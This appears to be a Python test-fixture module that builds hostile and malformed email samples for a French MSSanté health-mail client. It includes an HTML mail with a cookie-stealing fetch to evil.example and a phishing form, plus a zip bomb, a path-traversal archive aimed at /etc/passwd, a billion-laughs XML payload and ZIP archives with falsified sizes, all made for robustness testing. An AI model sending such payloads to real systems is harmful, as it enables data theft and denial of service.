"""Tricky messages, built in code so each one says what is wrong with it.

Real servers deliver all of these: mailers that lie about charsets, transfers cut short,
forwarding chains with hundreds of headers, archives crafted to exhaust a server. The
well-formed MSSanté samples live in `devtools.samples`; these are the hard cases.
"""

from __future__ import annotations

import io
import os
import zipfile
from email.message import EmailMessage
from email.policy import SMTP

FROM = "Dr Test <dr.test@ch-exemple.mssante.fr>"
TO = "dr.lecteur@chu-test.mssante.fr"


def _base(subject: str) -> EmailMessage:
    msg = EmailMessage(policy=SMTP)
    msg["From"] = FROM
    msg["To"] = TO
    msg["Subject"] = subject
    msg["Date"] = "Tue, 13 Jan 2026 10:00:00 +0100"
    msg["Message-ID"] = f"<{os.urandom(8).hex()}@ch-exemple.mssante.fr>"
    msg["X-MSS-NIL"] = "TEST-NIL"
    return msg


def _raw(*lines: bytes) -> bytes:
    return b"\r\n".join(lines) + b"\r\n"


def undeclared_latin1() -> bytes:
    """Declared UTF-8, written in Windows-1252: the bytes are not valid UTF-8."""
    return _raw(
        b"From: " + FROM.encode(),
        b"To: " + TO.encode(),
        b"Subject: charset faux",
        b"MIME-Version: 1.0",
        b'Content-Type: text/plain; charset="utf-8"',
        b"Content-Transfer-Encoding: 8bit",
        b"",
        b"Compte rendu op\xe9ratoire : r\xe9sultats normaux.",
    )


def unknown_charset() -> bytes:
    """A charset no codec knows."""
    return _raw(
        b"From: " + FROM.encode(),
        b"To: " + TO.encode(),
        b"Subject: charset inconnu",
        b"MIME-Version: 1.0",
        b'Content-Type: text/plain; charset="x-mac-klingon"',
        b"Content-Transfer-Encoding: 8bit",
        b"",
        b"Bonjour, voici le r\xc3\xa9sultat.",
    )


def latin1_declared() -> bytes:
    """ISO-8859-1 honestly declared, quoted-printable: must decode exactly."""
    msg = _base("Latin-1")
    msg.set_content("Fièvre à 39,5 °C, œdème.", charset="iso-8859-15", cte="quoted-printable")
    return msg.as_bytes()


def not_mime_at_all() -> bytes:
    """No header block worth the name: binary noise, then text."""
    return b"\x00\x01\x02garbage without headers\r\n\xff\xfe\r\nstill readable text\r\n"


def multipart_without_boundary() -> bytes:
    return _raw(
        b"From: " + FROM.encode(),
        b"To: " + TO.encode(),
        b"Subject: pas de boundary",
        b"MIME-Version: 1.0",
        b"Content-Type: multipart/mixed",
        b"",
        b"--x",
        b"Content-Type: text/plain",
        b"",
        b"texte perdu ?",
        b"--x--",
    )


def huge_headers(count: int = 3000) -> bytes:
    """A long forwarding chain: thousands of Received headers and a 20 kB subject."""
    msg = _base("Très long " + "sujet " * 3400)
    for hop in range(count):
        msg["Received"] = f"from relay{hop}.ch-exemple.mssante.fr by mx.chu-test.mssante.fr"
    msg.set_content("Le corps est court.")
    return msg.as_bytes()


PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d49444154789c6360000002000154a24f5d0000000049454e44ae426082"
)
PDF = b"%PDF-1.4\n" + os.urandom(3000) + b"\n%%EOF\n"


def nested_multiparts() -> tuple[bytes, dict[str, bytes]]:
    """mixed( alternative( plain, related( html, image ) ), pdf, rfc822( mixed ) ).

    Returns the message and the bytes expected at each attachment's IMAP part number.
    """
    inner = _base("Message transféré")
    inner.set_content("Le message d'origine.")
    inner.add_attachment(b"inner attachment", maintype="text", subtype="csv", filename="a.csv")

    msg = _base("Imbriqué")
    msg.set_content("Texte brut du message imbriqué.")
    msg.add_alternative(
        '<p>HTML <img src="cid:logo@test"> avec <img src="https://tracker.example/p.gif"></p>',
        subtype="html",
    )
    html = msg.get_payload()[1]
    html.add_related(PNG, maintype="image", subtype="png", cid="<logo@test>")
    msg.add_attachment(PDF, maintype="application", subtype="pdf", filename="compte-rendu.pdf")
    msg.add_attachment(inner)
    # mixed: 1 = alternative (1.1 plain, 1.2 related (1.2.1 html, 1.2.2 png)), 2 pdf, 3 rfc822
    return msg.as_bytes(), {"1.2.2": PNG, "2": PDF}


def html_hostile() -> bytes:
    """Everything an HTML mail can do to its reader."""
    msg = _base("HTML hostile")
    msg.set_content("Version texte.")
    msg.add_alternative(
        """<html><head><style>body{background:url(https://t.example/bg.png)}</style>
<script>fetch('https://evil.example/?c='+document.cookie)</script></head>
<body onload="steal()"><p style="background-image:url(https://t.example/s.png)">Bonjour</p>
<img src="https://tracker.example/pixel.gif?u=42" width="1" height="1">
<img srcset="https://t.example/a.png 1x">
<form action="https://phish.example/login"><input name="password"><button>OK</button></form>
<iframe src="https://evil.example/frame"></iframe>
<a href="javascript:alert(1)">lien</a> <a href="https://ok.example/doc">doc</a>
<svg><script>alert(1)</script></svg><object data="https://evil.example/x.swf"></object>
</body></html>""",
        subtype="html",
    )
    return msg.as_bytes()


def with_attachment(payload: bytes, filename: str, maintype: str, subtype: str) -> bytes:
    msg = _base("Pièce jointe")
    msg.set_content("Voir la pièce jointe.")
    msg.add_attachment(payload, maintype=maintype, subtype=subtype, filename=filename)
    return msg.as_bytes()


def _zip(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(
                zipfile.ZipInfo(name, date_time=(2026, 1, 1, 0, 0, 0)),
                data,
                compress_type=zipfile.ZIP_DEFLATED,
            )
    return buffer.getvalue()


def _metadata(uri: str, mime_type: str = "text/xml") -> bytes:
    return f"""<?xml version="1.0" encoding="UTF-8"?>
<lcm:SubmitObjectsRequest xmlns:lcm="urn:oasis:names:tc:ebxml-regrep:xsd:lcm:3.0"
    xmlns:rim="urn:oasis:names:tc:ebxml-regrep:xsd:rim:3.0"><rim:RegistryObjectList>
<rim:ExtrinsicObject id="Doc" mimeType="{mime_type}"
    objectType="urn:uuid:7edca82f-054d-47f2-a032-9b2a5b5186c1">
<rim:Slot name="URI"><rim:ValueList><rim:Value>{uri}</rim:Value></rim:ValueList></rim:Slot>
<rim:Name><rim:LocalizedString value="CR"/></rim:Name>
</rim:ExtrinsicObject></rim:RegistryObjectList></lcm:SubmitObjectsRequest>
""".encode()


def zip_bomb_xdm() -> bytes:
    """An IHE_XDM.ZIP whose document inflates 20 MB of zeros from a few kilobytes."""
    archive = _zip(
        {
            "IHE_XDM/SUBSET01/METADATA.XML": _metadata("DOC0001.XML"),
            "IHE_XDM/SUBSET01/DOC0001.XML": b"\0" * (20 * 1024 * 1024),
        }
    )
    return with_attachment(archive, "IHE_XDM.ZIP", "application", "zip")


def path_traversal_xdm() -> bytes:
    """An IHE_XDM.ZIP whose members and metadata point outside the archive."""
    archive = _zip(
        {
            "IHE_XDM/SUBSET01/METADATA.XML": _metadata("../../../../etc/passwd"),
            "../../../../etc/passwd": b"root:x:0:0::/root:/bin/sh\n",
        }
    )
    return with_attachment(archive, "IHE_XDM.ZIP", "application", "zip")


def entity_expansion_xdm() -> bytes:
    """METADATA.XML with a billion-laughs DTD: refused by the XML parser, not expanded."""
    laughs = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>
<lolz>&lol3;</lolz>"""
    archive = _zip({"IHE_XDM/SUBSET01/METADATA.XML": laughs})
    return with_attachment(archive, "IHE_XDM.ZIP", "application", "zip")


def html_only() -> bytes:
    """No text/plain alternative at all."""
    msg = _base("HTML seul")
    msg.set_content(
        "<p>Bonjour,</p><p>R&eacute;sultat <b>normal</b>.<br>Cordialement</p>"
        "<script>alert(1)</script>",
        subtype="html",
    )
    return msg.as_bytes()


def xdm_with_mime_type(mime_type: str) -> bytes:
    """An IHE_XDM.ZIP whose metadata declares `mime_type` (raw XML attribute text)."""
    archive = _zip(
        {
            "IHE_XDM/SUBSET01/METADATA.XML": _metadata("DOC0001.XML", mime_type),
            "IHE_XDM/SUBSET01/DOC0001.XML": b"<ClinicalDocument/>",
        }
    )
    return with_attachment(archive, "IHE_XDM.ZIP", "application", "zip")


def _declare_size(archive: bytes, name: str, size: int) -> bytes:
    """Rewrite a member's uncompressed size in its local and central headers (APPNOTE 4.3)."""
    data = bytearray(archive)
    with zipfile.ZipFile(io.BytesIO(archive)) as parsed:
        info = parsed.getinfo(name)
        data[info.header_offset + 22 : info.header_offset + 26] = size.to_bytes(4, "little")
        offset = parsed.start_dir
    while data[offset : offset + 4] == b"PK\x01\x02":
        name_len = int.from_bytes(data[offset + 28 : offset + 30], "little")
        extra_len = int.from_bytes(data[offset + 30 : offset + 32], "little")
        comment_len = int.from_bytes(data[offset + 32 : offset + 34], "little")
        if data[offset + 46 : offset + 46 + name_len].decode() == name:
            data[offset + 24 : offset + 28] = size.to_bytes(4, "little")
        offset += 46 + name_len + extra_len + comment_len
    return bytes(data)


def xdm_under_declared() -> bytes:
    """An IHE_XDM.ZIP whose document is ten times larger than its headers declare."""
    document = os.urandom(200_000).hex().encode()  # 400 kB that barely compress
    archive = _zip(
        {
            "IHE_XDM/SUBSET01/METADATA.XML": _metadata("DOC0001.XML"),
            "IHE_XDM/SUBSET01/DOC0001.XML": document,
        }
    )
    archive = _declare_size(archive, "IHE_XDM/SUBSET01/DOC0001.XML", len(document) // 10)
    return with_attachment(archive, "IHE_XDM.ZIP", "application", "zip")


def html_nested(depth: int) -> bytes:
    """An HTML-only mail whose text sits `depth` <div> levels down."""
    msg = _base("HTML profond")
    msg.set_content("<div>" * depth + "R&eacute;sultat normal." + "</div>" * depth, subtype="html")
    return msg.as_bytes()


# -- hostile to the sync (issue 21): every one must be stored and never block a mailbox --


def hostile_read_receipt(to: str = TO) -> bytes:
    """The read receipt of drill 21.6: 8-bit garbage, NULs and a 70,000-character field in
    its machine-readable part (RFC 8098 §3.2); it once made a mailbox deaf for good."""
    return _raw(
        b"From: Lecteur <lecteur@ch-exemple.mssante.fr>",
        b"To: " + to.encode(),
        b"Subject: Lu: compte rendu",
        b"Date: Tue, 13 Jan 2026 10:00:00 +0100",
        b"Message-ID: <mdn-hostile@ch-exemple.mssante.fr>",
        b"MIME-Version: 1.0",
        b'Content-Type: multipart/report; report-type=disposition-notification; boundary="R"',
        b"",
        b"--R",
        b"Content-Type: text/plain; charset=utf-8",
        b"",
        b"Votre message a \xc3\xa9t\xc3\xa9 lu.",
        b"--R",
        b"Content-Type: message/disposition-notification",
        b"",
        b"Reporting-UA: hostile.example; x",
        b"Original-Message-ID: \xff\xfe<<<\xc0\xc1<<@@>>",
        b"Disposition: manual-action/MDN-sent-manually; disp\x00layed\x00\x00",
        b"Final-Recipient: rfc822;" + b"A" * 70_000 + b"@ch-exemple.mssante.fr",
        b"",
        b"--R--",
    )


def utf8_delivery_report(to: str, original_id: str) -> bytes:
    """A DSN of RFC 6533: UTF-8 addresses in `message/global-delivery-status`."""
    return _raw(
        b"From: MAILER-DAEMON@mx.chu-test.mssante.fr",
        b"To: <" + to.encode() + b">",
        b"Subject: Delivery Status Notification",
        b"Message-ID: <dsn-utf8@mx.chu-test.mssante.fr>",
        b"MIME-Version: 1.0",
        b'Content-Type: multipart/report; report-type=delivery-status; boundary="D"',
        b"",
        b"--D",
        b"Content-Type: text/plain",
        b"",
        b"Delivered.",
        b"--D",
        b"Content-Type: message/global-delivery-status",
        b"",
        b"Reporting-MTA: dns; mx.chu-test.mssante.fr",
        b"",
        "Final-Recipient: utf-8; éléa.médecin@hôpital.mssante.fr".encode(),
        b"Action: delivered",
        b"Status: 2.0.0",
        b"",
        b"--D",
        b"Content-Type: text/rfc822-headers",
        b"",
        b"From: <" + to.encode() + b">",
        b"Message-ID: " + original_id.encode(),
        b"",
        b"--D--",
    )


def nul_headers() -> bytes:
    """NULs in the header names and values, and in the body."""
    return _raw(
        b"From: Dr \x00Nul <nul@ch-exemple.mssante.fr>",
        b"To: " + TO.encode(),
        b"Subject: sujet\x00avec\x00nul",
        b"X-MSS-\x00: \x00",
        b"Message-ID: <\x00@x>",
        b"",
        b"corps\x00binaire",
    )


def huge_subject(size: int = 1024 * 1024) -> bytes:
    """A 1 MB subject on one folded field (drill 21.7)."""
    return _raw(
        b"From: " + FROM.encode(),
        b"To: " + TO.encode(),
        b"Subject: " + b"=?utf-8?q?=C3=A9?= " * (size // 19),
        b"",
        b"court",
    )


def single_line_header(size: int = 10 * 1024 * 1024) -> bytes:
    """A 10 MB header on one line (drill 21.8)."""
    return _raw(
        b"From: " + FROM.encode(),
        b"To: " + TO.encode(),
        b"Subject: un en-tete de dix megaoctets",
        b"X-Long: " + b"x" * size,
        b"",
        b"court",
    )


def long_body_line(size: int = 5 * 1024 * 1024) -> bytes:
    """A 5 MB body on one line (drill 21.8)."""
    return _raw(
        b"From: " + FROM.encode(),
        b"To: " + TO.encode(),
        b"Subject: une ligne de cinq megaoctets",
        b"",
        b"y" * size,
    )


def many_recipients(count: int = 20_000) -> bytes:
    """20,000 recipients in To (drill 21.11), and hostile quoting in Cc."""
    to = ", ".join(f'"Dr {n}, service" <dr{n}@chu-test.mssante.fr>' for n in range(count))
    return _raw(
        b"From: " + FROM.encode(),
        b"To: " + to.encode(),
        b"Cc: " + b',"' * 40_000,
        b"Subject: tout le monde",
        b"",
        b"court",
    )


def deep_nesting(depth: int = 120) -> bytes:
    """Multiparts nested deeper than any server's MIME parser goes."""
    lines = [
        b"From: " + FROM.encode(),
        b"To: " + TO.encode(),
        b"Subject: poupees russes",
        b"MIME-Version: 1.0",
    ]
    for level in range(depth):
        lines += [f'Content-Type: multipart/mixed; boundary="b{level}"'.encode(), b""]
        lines += [f"--b{level}".encode()]
    lines += [b"Content-Type: text/plain", b"", b"au fond"]
    for level in reversed(range(depth)):
        lines += [f"--b{level}--".encode()]
    return _raw(*lines)


def declared_gigabyte_xdm() -> bytes:
    """An IHE_XDM.ZIP whose directory declares a 1 GiB document (drill 21.8)."""
    archive = bytearray(
        _zip(
            {
                "IHE_XDM/SUBSET01/METADATA.XML": _metadata("DOC0001.XML"),
                "IHE_XDM/SUBSET01/DOC0001.XML": b"<doc/>",
            }
        )
    )
    central = archive.rfind(b"PK\x01\x02")  # the last member's central directory record
    archive[central + 24 : central + 28] = (1 << 30).to_bytes(4, "little")
    return with_attachment(bytes(archive), "IHE_XDM.ZIP", "application", "zip")


def broken_encoded_words() -> bytes:
    """Encoded words with unknown charsets, bad base64 and unterminated quoting."""
    return _raw(
        b'From: =?x-klingon?b?////?= <=?utf-8?q?a?=@x>, "unterminated <a@b>',
        b"To: " + TO.encode(),
        b"Subject: =?utf-8?b?not base64!!?= =?utf-8?q?=ZZ?= \xc3\x28 =?",
        b"Date: 31 Feb 99999 25:61:61 +9999",
        b"Content-Type: text/plain; charset*=utf-8''%ZZ",
        b"",
        b"texte",
    )


def hostile_corpus(to: str = TO) -> dict[str, bytes]:
    """Every hostile sample by name, addressed to `to` where the sample has a recipient."""
    return {
        "hostile_read_receipt": hostile_read_receipt(to),
        "utf8_delivery_report": utf8_delivery_report(to, "<unknown@ch-exemple.mssante.fr>"),
        "undeclared_latin1": undeclared_latin1(),
        "unknown_charset": unknown_charset(),
        "not_mime_at_all": not_mime_at_all(),
        "multipart_without_boundary": multipart_without_boundary(),
        "huge_headers": huge_headers(),
        "nul_headers": nul_headers(),
        "huge_subject": huge_subject(),
        "single_line_header": single_line_header(),
        "long_body_line": long_body_line(),
        "many_recipients": many_recipients(),
        "deep_nesting": deep_nesting(),
        "broken_encoded_words": broken_encoded_words(),
        "zip_bomb_xdm": zip_bomb_xdm(),
        "path_traversal_xdm": path_traversal_xdm(),
        "entity_expansion_xdm": entity_expansion_xdm(),
        "declared_gigabyte_xdm": declared_gigabyte_xdm(),
    }
